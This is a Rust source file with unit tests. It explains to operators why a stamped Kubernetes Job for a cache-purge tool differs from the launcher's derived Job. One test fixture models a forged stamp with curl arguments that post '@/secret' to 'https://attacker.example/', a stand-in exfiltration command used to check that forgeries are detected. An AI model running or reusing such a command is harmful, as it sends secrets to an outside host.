//! Why a stamped Job is not the launcher's own derivation, in words an
//! operator can act on: the settings differ (a change, or two sources), the policy's
//! version differs (upgrade policy and launcher together), or the stamp was
//! written while the policy was not running. Pure: two JSON texts in, one
//! sentence out.

use serde_json::Value;

/// At most this many differences are named.
const NAMED: usize = 3;
/// A value is quoted up to this many characters.
const QUOTED: usize = 60;

/// One place where the stamp and the derivation differ.
struct Difference {
    path: String,
    stamped: String,
    derived: String,
}

/// The sentence that follows "annotation P/job is not what the policy
/// derives".
pub fn explain(stamped: &str, derived: &str) -> String {
    let (Ok(stamped), Ok(derived)) = (
        serde_json::from_str::<Value>(stamped),
        serde_json::from_str::<Value>(derived),
    ) else {
        return "the stamp is not a Job in JSON: it was damaged or written by hand".to_owned();
    };
    if !stamped.is_object() {
        return "the stamp is not a Job in JSON: it was damaged or written by hand".to_owned();
    }
    let mut differences = Vec::new();
    walk(String::new(), &stamped, &derived, &mut differences);
    // The Job's `P/stamped-by` names the release and the settings that made
    // it: it differs whenever another difference comes from those, so it is
    // named only when it is the one difference.
    if differences.len() > 1 {
        differences.retain(|difference| !is_fingerprint(difference));
    }
    if differences.is_empty() {
        return "the stamp holds the same Job written differently".to_owned();
    }
    let named: Vec<String> = differences
        .iter()
        .take(NAMED)
        .map(|difference| {
            format!(
                "{} ({} in the stamp, {} here)",
                difference.path, difference.stamped, difference.derived
            )
        })
        .collect();
    let more = match differences.len().saturating_sub(NAMED) {
        0 => String::new(),
        extra => format!(" and {extra} more"),
    };
    let settings: Vec<&str> = differences
        .iter()
        .filter_map(|difference| setting_of(difference))
        .collect();
    if settings.len() == differences.len() {
        let mut keys = settings;
        keys.sort_unstable();
        keys.dedup();
        format!(
            "it differs only where settings decide: {}{more}. The stamp was made with other settings ({}) than the launcher's: \
             it predates a change of the settings (the next rollout is stamped anew), or the policy and the launcher read \
             different settings (see the launcher's --policy and --settings)",
            named.join(", "),
            keys.join(", ")
        )
    } else {
        format!(
            "it differs in {}{more}. Either the policy and the launcher are different versions (upgrade both together), or the stamp was written while the policy was not running",
            named.join(", ")
        )
    }
}

fn quote(value: Option<&Value>) -> String {
    let Some(value) = value else {
        return "absent".to_owned();
    };
    let text = value.to_string();
    if text.chars().count() > QUOTED {
        let cut: String = text.chars().take(QUOTED).collect();
        format!("{cut}…")
    } else {
        text
    }
}

fn walk(path: String, stamped: &Value, derived: &Value, out: &mut Vec<Difference>) {
    match (stamped, derived) {
        (Value::Object(a), Value::Object(b)) => {
            let mut keys: Vec<&String> = a.keys().chain(b.keys()).collect();
            keys.sort();
            keys.dedup();
            for key in keys {
                let inner = if path.is_empty() {
                    key.clone()
                } else {
                    format!("{path}.{key}")
                };
                match (a.get(key), b.get(key)) {
                    (Some(x), Some(y)) => walk(inner, x, y, out),
                    (x, y) => out.push(Difference {
                        path: inner,
                        stamped: quote(x),
                        derived: quote(y),
                    }),
                }
            }
        }
        (Value::Array(a), Value::Array(b)) if a.len() == b.len() => {
            for (index, (x, y)) in a.iter().zip(b).enumerate() {
                walk(format!("{path}[{index}]"), x, y, out);
            }
        }
        (x, y) if x == y => {}
        (x, y) => out.push(Difference {
            path,
            stamped: quote(Some(x)),
            derived: quote(Some(y)),
        }),
    }
}

/// The purge and wait flags whose value a setting decides.
const ARGS_OF_SETTINGS: [(&str, &str); 10] = [
    ("--timeout-seconds", "rolloutTimeoutSeconds"),
    ("--cloudflare-batch-size", "cloudflareBatchSize"),
    ("--content-max-urls", "contentMaxUrls"),
    ("--insecure-registry", "contentInsecureRegistries"),
    ("--registry-ca-file", "contentRegistryCA"),
    ("--fastly-soft-purge", "fastlySoftPurge"),
    ("--akamai-action", "akamaiAction"),
    ("--akamai-network", "akamaiNetwork"),
    ("--http-method", "httpMethod"),
    ("--http-tag-header", "httpTagHeader"),
];

/// Whether the difference is the Job's `P/stamped-by` annotation.
fn is_fingerprint(difference: &Difference) -> bool {
    difference.path.starts_with("metadata.annotations.")
        && difference
            .path
            .ends_with(&format!("/{}", cache_buster::keys::STAMPED_BY))
}

/// The setting that decides the value at this place of the Job, if one does.
fn setting_of(difference: &Difference) -> Option<&'static str> {
    let path = difference.path.as_str();
    let last = path.rsplit('.').next().unwrap_or(path);
    let in_args = path.contains(".args[");
    match last {
        _ if is_fingerprint(difference) => Some("any setting"),
        "backoffLimit" => Some("backoffLimit"),
        "activeDeadlineSeconds" => Some("activeDeadlineSeconds"),
        "ttlSecondsAfterFinished" => Some("ttlSecondsAfterFinished"),
        "serviceAccountName" => Some("serviceAccountName"),
        "runAsUser" | "runAsGroup" => Some("runAsUser"),
        "image" => Some("image"),
        "secretName" => Some("credentialsSecret"),
        "priorityClassName" => Some("priorityClassName"),
        _ if path.contains(".imagePullSecrets") => Some("imagePullSecrets"),
        _ if path.contains(".nodeSelector") => Some("nodeSelector"),
        _ if path.contains(".tolerations") => Some("tolerations"),
        _ if path.starts_with("spec.template.metadata.annotations") => Some("annotations"),
        _ if path.contains(".resources.") => Some("resources"),
        _ if in_args => ARGS_OF_SETTINGS
            .iter()
            .find(|(flag, _)| difference.stamped.starts_with(&format!("\"{flag}=")))
            .map(|(_, setting)| *setting),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn job(backoff: i64, image: &str, args: &[&str]) -> String {
        json!({"kind": "Job", "spec": {"backoffLimit": backoff, "template": {"spec": {
            "containers": [{"name": "purge", "image": image, "args": args}]}}}})
        .to_string()
    }

    fn fingerprinted(fingerprint: &str, backoff: i64) -> String {
        json!({"kind": "Job", "metadata": {"annotations": {"cache-buster.io/stamped-by": fingerprint}},
            "spec": {"backoffLimit": backoff}})
        .to_string()
    }

    #[test]
    fn the_fingerprint_is_named_only_when_nothing_else_differs() {
        let made = "cache-buster 0.1.0, settings 6d654488f2";
        let here = "cache-buster 0.1.0, settings 7d2c4e01a5";
        assert_eq!(
            explain(&fingerprinted(made, 4), &fingerprinted(here, 3)),
            "it differs only where settings decide: spec.backoffLimit (4 in the stamp, 3 here). \
             The stamp was made with other settings (backoffLimit) than the launcher's: \
             it predates a change of the settings (the next rollout is stamped anew), or the policy and the launcher read \
             different settings (see the launcher's --policy and --settings)"
        );
        let alone = explain(&fingerprinted(made, 3), &fingerprinted(here, 3));
        assert!(
            alone.starts_with(&format!(
                "it differs only where settings decide: metadata.annotations.cache-buster.io/stamped-by (\"{made}\" in the stamp, \"{here}\" here)"
            )),
            "{alone}"
        );
    }

    #[test]
    fn settings_that_differ_are_named_with_both_values() {
        let stamped = job(
            4,
            "ghcr.io/cache-buster/cache-buster:v0.1.0",
            &["purge", "--tag=shop"],
        );
        let derived = job(
            3,
            "ghcr.io/cache-buster/cache-buster:v0.2.0",
            &["purge", "--tag=shop"],
        );
        assert_eq!(
            explain(&stamped, &derived),
            "it differs only where settings decide: spec.backoffLimit (4 in the stamp, 3 here), \
             spec.template.spec.containers[0].image (\"ghcr.io/cache-buster/cache-buster:v0.1.0\" in the stamp, \"ghcr.io/cache-buster/cache-buster:v0.2.0\" here). \
             The stamp was made with other settings (backoffLimit, image) than the launcher's: \
             it predates a change of the settings (the next rollout is stamped anew), or the policy and the launcher read \
             different settings (see the launcher's --policy and --settings)"
        );
    }

    /// A stamp made before a placement setting changed is named as such.
    #[test]
    fn placement_settings_are_named_as_settings() {
        let stamped = json!({"spec": {"template": {
            "metadata": {"labels": {"a": "b"}},
            "spec": {"priorityClassName": "batch-low"}}}})
        .to_string();
        let derived = json!({"spec": {"template": {
            "metadata": {"labels": {"a": "b"}, "annotations": {"linkerd.io/inject": "disabled"}},
            "spec": {"priorityClassName": "batch-high", "nodeSelector": {"kubernetes.io/arch": "arm64"},
                     "tolerations": [{"operator": "Exists"}], "imagePullSecrets": [{"name": "mirror"}]}}}})
        .to_string();
        let text = explain(&stamped, &derived);
        assert!(
            text.contains(
                "The stamp was made with other settings (annotations, imagePullSecrets, nodeSelector, priorityClassName, tolerations)"
            ),
            "{text}"
        );
    }

    /// Flags of the argv that a setting decides are named by that setting.
    #[test]
    fn flags_decided_by_settings_are_named_as_settings() {
        let image = "ghcr.io/cache-buster/cache-buster:v0.1.0";
        for (stamped, derived, setting) in [
            (
                "--akamai-action=invalidate",
                "--akamai-action=delete",
                "akamaiAction",
            ),
            (
                "--akamai-network=production",
                "--akamai-network=staging",
                "akamaiNetwork",
            ),
            (
                "--cloudflare-batch-size=30",
                "--cloudflare-batch-size=500",
                "cloudflareBatchSize",
            ),
            (
                "--fastly-soft-purge=false",
                "--fastly-soft-purge=true",
                "fastlySoftPurge",
            ),
            (
                "--timeout-seconds=600",
                "--timeout-seconds=60",
                "rolloutTimeoutSeconds",
            ),
        ] {
            let text = explain(
                &job(3, image, &["purge", stamped]),
                &job(3, image, &["purge", derived]),
            );
            assert!(
                text.contains(&format!(
                    "The stamp was made with other settings ({setting})"
                )),
                "{text}"
            );
        }
    }

    #[test]
    fn a_different_command_is_another_version_or_a_forgery() {
        let stamped = job(
            3,
            "curlimages/curl:8.17.0",
            &["--data-raw", "@/secret", "https://attacker.example/"],
        );
        let derived = job(3, "curlimages/curl:8.17.0", &["--retry", "5"]);
        assert_eq!(
            explain(&stamped, &derived),
            "it differs in spec.template.spec.containers[0].args ([\"--data-raw\",\"@/secret\",\"https://attacker.example/\"] in the stamp, [\"--retry\",\"5\"] here). \
             Either the policy and the launcher are different versions (upgrade both together), or the stamp was written while the policy was not running"
        );
    }

    #[test]
    fn many_differences_are_counted_not_all_listed() {
        let stamped = json!({"a": 1, "b": 1, "c": 1, "d": 1, "e": 1}).to_string();
        let derived = json!({"a": 2, "b": 2, "c": 2, "d": 2, "e": 2}).to_string();
        let text = explain(&stamped, &derived);
        assert!(text.starts_with("it differs in a (1 in the stamp, 2 here), b (1 in the stamp, 2 here), c (1 in the stamp, 2 here) and 2 more."), "{text}");
    }

    #[test]
    fn a_stamp_that_is_no_json_object_is_said_to_be_damaged() {
        let derived = job(3, "curl", &[]);
        for stamped in ["{not json", "[1]", "\"a Job\""] {
            assert_eq!(
                explain(stamped, &derived),
                "the stamp is not a Job in JSON: it was damaged or written by hand"
            );
        }
    }

    #[test]
    fn long_values_are_cut() {
        let long = "x".repeat(200);
        let stamped = json!({"a": long}).to_string();
        let derived = json!({"a": "y"}).to_string();
        let text = explain(&stamped, &derived);
        assert!(
            text.contains(&format!("a (\"{}… in the stamp", "x".repeat(59))),
            "{text}"
        );
    }
}
